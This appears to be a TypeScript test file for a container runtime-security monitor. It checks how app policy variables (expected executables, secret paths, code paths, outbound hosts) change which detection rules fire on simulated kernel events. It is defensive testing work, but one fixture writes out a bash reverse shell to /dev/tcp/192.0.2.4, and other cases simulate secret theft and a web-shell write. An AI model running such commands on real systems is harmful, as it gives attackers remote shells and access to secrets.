// What an app's variables (varvel.yml) make of the default rules: an attack and its healthy twin for each.
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { checkPolicy, operatorRulesOf } from '../../../src/policy/check-policy.ts';
import { knownVariables } from '../../../src/policy/variable-effects.ts';
import { VALUE_SHAPES } from '../../../src/policy/policy-variables.ts';
import type { Process } from '../../../src/context/process.ts';
import type { KernelEvent } from '../../../src/events/event.ts';
import { readRuleFile } from '../../../src/rules/loader/load.ts';
import { engine, exec, GARDEN, SECOND, started } from '../../support/default-rules.ts';
import {
  BOOT_NS,
  CONTAINER,
  makeConnect,
  makeEvent,
  makeFile,
  makeOpen,
  makeProcess,
  makeSubject,
  openForRead,
  RUNTIME,
  TIME_NS,
} from '../../support/rules-subject.ts';

const operator = operatorRulesOf([readRuleFile('manifests/rules/varvel_rules.yaml')]);

/** What the rules say of the event in an app that sets these variables. */
function namesWith(
  variables: Record<string, readonly string[]>,
  event: KernelEvent,
  more: { process?: Process; container?: typeof CONTAINER; waiting?: boolean } = {},
): string[] {
  const text = JSON.stringify({ variables });
  const { policy, errors, warnings } = checkPolicy({ name: 'varvel.yml', text }, operator);
  assert.deepEqual([...errors, ...warnings], []);
  assert.ok(policy);
  const { process, container = CONTAINER, waiting = false } = more;
  const base = makeSubject(event, { ...(process === undefined ? {} : { process }), container });
  const subject = { ...base, domains: { ...base.domains, areKnown: () => !waiting } };
  return policy.refine(engine.evaluate(subject), subject).map(({ rule }) => rule.name);
}

test('the variables that there are, each with a shape of its own and rules that ask for it', () => {
  const known = knownVariables(operator.definitions);
  assert.deepEqual([...known.names].sort(), [...VALUE_SHAPES.keys()].sort());
  for (const name of known.names) {
    for (const list of known.listsOf(name)) assert.ok(known.uses.has(list), list);
  }
  const uses = (list: string): string[] => [
    ...new Set(
      [...(known.uses.get(list)?.values() ?? [])].map(({ loosens }) =>
        loosens ? 'loosens' : 'tightens',
      ),
    ),
  ];
  assert.deepEqual(uses('app_secret_paths'), ['tightens']);
  assert.deepEqual(uses('app_code_paths'), ['tightens']);
  assert.deepEqual(uses('app_expected_executables'), ['loosens']);
  assert.deepEqual(uses('app_outbound_hosts'), ['loosens']);
});

describe('expected_executables: programs that the app starts by design', () => {
  const expecting = (...paths: string[]) => ({ expected_executables: paths });
  const run = (exePath: string, args: string[] = [], more: Parameters<typeof started>[2] = {}) =>
    started(exePath, args, more);
  const dropped = { image: { exeUpperLayer: true, exeLowerLayer: false } };
  const passed = (filename: string): KernelEvent => exec(filename);

  test('tools and shells: by the file that runs, whatever it is called', () => {
    for (const [path, rule] of [
      ['/usr/bin/dash', 'Shell started by an app'],
      ['/usr/bin/id', 'Command typical of an intruder run by an app'],
      ['/usr/bin/curl', 'Transfer tool run by an app'],
      ['/usr/bin/gcc', 'Compiler run in an app container'],
      ['/usr/sbin/tcpdump', 'Attack tool run'],
      ['/usr/bin/kubectl', 'Container client run in an app'],
    ] as const) {
      assert.deepEqual(namesWith({}, exec(), { process: run(path) }), [rule], path);
      assert.deepEqual(namesWith(expecting(path), exec(), { process: run(path) }), [], path);
      const elsewhere = run(`/opt${path}`);
      assert.deepEqual(
        namesWith(expecting(path), exec(), { process: elsewhere }),
        namesWith({}, exec(), { process: elsewhere }),
      );
      const name = path.slice(path.lastIndexOf('/') + 1);
      const inName = run('/usr/bin/busybox', [], { image: { name } });
      assert.deepEqual(
        namesWith(expecting(path), exec(), { process: inName }),
        namesWith({}, exec(), { process: inName }),
      );
    }
  });

  test('what the app fetches itself and runs', () => {
    const rule = 'New program dropped and run';
    const browser = '/app/.cache/chrome/chrome';
    const allowed = expecting(browser, '/tmp/worker');
    const names = (path: string, filename = path) =>
      namesWith(allowed, passed(filename), { process: run(path, [], dropped) });
    assert.deepEqual(namesWith({}, passed(browser), { process: run(browser, [], dropped) }), [
      rule,
    ]);
    assert.deepEqual(names(browser), []);
    assert.deepEqual(names(browser, 'chrome'), []);
    assert.deepEqual(names('/tmp/worker'), []);
    assert.deepEqual(names('/app/.cache/chrome/miner'), [rule]);
    assert.deepEqual(names('/tmp/worker2'), [rule]);
    assert.deepEqual(names(browser, '/tmp/x'), [rule], 'by a link in a directory for anything');
  });

  test('not in the place of a program of the image, and no script for an expected interpreter', () => {
    const rule = 'New program dropped and run';
    const allowed = expecting(
      '/usr/bin/convert',
      '/usr/bin/python3',
      '/lib64/ld-linux-x86-64.so.2',
    );
    const names = (path: string, filename: string, args: string[] = [], more = {}) =>
      namesWith(allowed, passed(filename), { process: run(path, args, more) });
    assert.deepEqual(names('/usr/bin/convert', '/usr/bin/convert'), []);
    assert.deepEqual(names('/usr/bin/convert', '/usr/bin/convert', [], dropped), [rule]);
    assert.deepEqual(names('/usr/bin/python3', '/tmp/x.py', ['/tmp/x.py']), [rule]);
    const loader = '/lib64/ld-linux-x86-64.so.2';
    assert.ok(names(loader, loader, ['/tmp/x']).includes(rule));
  });

  test('from a volume, and nothing of what only an attack looks like', () => {
    const plugin = '/data/plugins/render';
    const onVolume = (variables: Record<string, string[]>) =>
      namesWith(variables, passed(plugin), {
        process: run(plugin, [], {
          pidNamespaceStartBootNs: BOOT_NS - 400n * SECOND,
          image: { exeUpperLayer: false, exeLowerLayer: false, exeCtimeNs: TIME_NS },
        }),
      });
    assert.deepEqual(onVolume({}), ['Program written later run from a volume']);
    assert.deepEqual(onVolume(expecting(plugin)), []);
    const shell = run('/usr/bin/bash', ['-c', 'bash -i >& /dev/tcp/192.0.2.4/80 0>&1']);
    assert.deepEqual(namesWith(expecting('/usr/bin/bash'), exec(), { process: shell }), [
      'Network tool gives away a shell',
    ]);
  });
});

describe('secret_paths: what the app is known by, wherever it has it', () => {
  const variables = { secret_paths: ['/app/config/tls.key', '/app/secrets'] };
  const old = makeProcess({ parent: RUNTIME });
  const cat = started('/usr/bin/cat');

  test('read by a tool, by a path that climbs, long after the start; not by the app that starts', () => {
    for (const path of ['/app/config/tls.key', '/app/secrets/db/password']) {
      assert.deepEqual(namesWith({}, openForRead(path), { process: cat }), [], path);
      assert.deepEqual(namesWith(variables, openForRead(path), { process: cat }), [
        'Secret read by a tool',
      ]);
      const young = makeProcess({ parent: RUNTIME, startBootNs: BOOT_NS - SECOND });
      assert.deepEqual(namesWith(variables, openForRead(path), { process: young }), []);
      assert.deepEqual(namesWith(variables, openForRead(path), { process: old }), [
        'Secret read long after start',
      ]);
      const climbing = openForRead(path, { rawPath: `/app/public/../..${path}` });
      assert.deepEqual(namesWith(variables, climbing, { process: old }), [
        'App made to read its own secrets',
        'Secret read long after start',
      ]);
    }
    for (const path of ['/app/config/tls.key.pub', '/app/secretsx', '/app/config']) {
      assert.deepEqual(namesWith(variables, openForRead(path), { process: cat }), [], path);
    }
  });

  test('another name made for it', () => {
    const link = (target: string) =>
      makeEvent('symlinkat', { params: { target, linkpath: '/app/public/x' } });
    const rule = 'Link made to a sensitive file';
    assert.deepEqual(namesWith({}, link('/app/secrets/a')), []);
    assert.deepEqual(namesWith(variables, link('/app/secrets/a')), [rule]);
    assert.deepEqual(namesWith(variables, link('/app/public/a')), []);
    const hard = (oldpath: string) =>
      makeEvent('linkat', { params: { oldpath, newpath: '/app/public/x' } });
    assert.deepEqual(namesWith(variables, hard('/app/config/tls.key')), [rule]);
    assert.deepEqual(namesWith(variables, hard('/app/config/x')), []);
  });

  test('moved away into a directory for anything; not a new one moved into its place', () => {
    const rule = 'Link made to a sensitive file';
    const moved = (oldpath: string, newpath: string, more: Parameters<typeof makeEvent>[1] = {}) =>
      namesWith(variables, makeEvent('renameat2', { params: { oldpath, newpath }, ...more }));
    assert.deepEqual(moved('/app/secrets/a', '/tmp/x'), [rule]);
    assert.deepEqual(moved('/app/config/tls.key', '/dev/shm/x'), [rule]);
    assert.deepEqual(moved('/app/secrets/a', '/tmp/x', { result: -2 }), [], 'refused');
    assert.deepEqual(moved('/tmp/new', '/app/secrets/a'), []);
    assert.deepEqual(moved('/app/secrets/.new', '/app/secrets/a'), []);
    assert.deepEqual(moved('/app/config/x', '/tmp/x'), []);
    const flags = 'RENAME_EXCHANGE';
    const exchanged = { params: { oldpath: '/tmp/x', newpath: '/app/secrets/a', flags } };
    assert.deepEqual(namesWith(variables, makeEvent('renameat2', exchanged)), [rule]);
  });
});

test('code_paths: code of the app in a place of its own', () => {
  const write = makeEvent('openat', {
    result: 3,
    open: makeOpen('/data/site/index.php', {
      file: makeFile('/data/site/index.php'),
      forRead: false,
      forWrite: true,
      created: true,
      flags: 0o101,
    }),
  });
  const process = started('/usr/sbin/php-fpm8.2', [], { startBootNs: BOOT_NS - 100n * SECOND });
  assert.deepEqual(namesWith({}, write, { process }), []);
  assert.deepEqual(namesWith({ code_paths: ['/data/site'] }, write, { process }), [
    'Web shell written',
  ]);
  assert.deepEqual(namesWith({ code_paths: ['/data/other'] }, write, { process }), []);
});

describe('outbound_hosts: whom the app connects to', () => {
  const RULE = 'Connection to a host that the app does not expect';
  // Of this address the tests' subject knows that it is example.com's.
  const KNOWN = '93.184.216.34';
  const connect = (remoteIp: string, more: Parameters<typeof makeConnect>[0] = {}): KernelEvent =>
    makeEvent('connect', {
      result: -115,
      call: makeConnect({
        remoteIp,
        family: remoteIp.includes(':') ? 10 : 2,
        localIp: '',
        ...more,
      }),
    });
  const names = (hosts: string[], event: KernelEvent, waiting = false) =>
    namesWith({ outbound_hosts: hosts }, event, { waiting });

  test('only an app that says whom it expects has the rule', () => {
    assert.deepEqual(namesWith({}, connect('192.0.2.9')), []);
    assert.deepEqual(names([], connect('192.0.2.9')), [RULE]);
    assert.deepEqual(
      namesWith({ outbound_hosts: [] }, connect('192.0.2.9'), { container: GARDEN }),
      [RULE],
    );
  });

  test('addresses and networks, of either version', () => {
    const hosts = [
      '10.0.0.0/8',
      '192.0.2.7',
      '2001:db8::/32',
      'fd00::7',
      '::ffff:198.51.100.0/120',
    ];
    for (const ip of [
      '10.1.2.3',
      '192.0.2.7',
      '2001:db8::1',
      'fd00::7',
      '::ffff:10.1.2.3',
      '198.51.100.9',
    ]) {
      assert.deepEqual(names(hosts, connect(ip)), [], ip);
    }
    for (const ip of ['11.1.2.3', '192.0.2.8', '2001:db9::1', 'fd00::8', '::ffff:11.1.2.3']) {
      assert.deepEqual(names(hosts, connect(ip)), [RULE], ip);
    }
  });

  test('domain names, as the host looks them up', () => {
    assert.deepEqual(names(['example.com'], connect(KNOWN)), []);
    assert.deepEqual(names(['www.example.com', '10.0.0.0/8'], connect(KNOWN)), []);
    assert.deepEqual(names(['example.com'], connect(`::ffff:${KNOWN}`)), []);
    assert.deepEqual(names(['example.org'], connect(KNOWN)), [RULE]);
    assert.deepEqual(names(['example.com'], connect('192.0.2.9')), [RULE]);
    assert.deepEqual(names(['example.com'], connect('192.0.2.9'), true), [], 'not looked up yet');
    assert.deepEqual(names(['10.0.0.0/8'], connect('192.0.2.9'), false), [RULE]);
  });

  test('a network that there can be none of is an error at its place', () => {
    for (const value of [
      '10.0.0.0/33',
      '300.1.2.3',
      '1234',
      ':::',
      'fe80::1/129',
      '10.0.0.0/8/8',
      '*.example.org',
    ]) {
      const text = `variables:\n  outbound_hosts:\n    - "${value}"\n`;
      const { errors } = checkPolicy({ name: 'varvel.yml', text }, operator);
      assert.deepEqual(
        errors.map(({ line, column }) => [line, column]),
        [[3, 7]],
        value,
      );
    }
  });
});
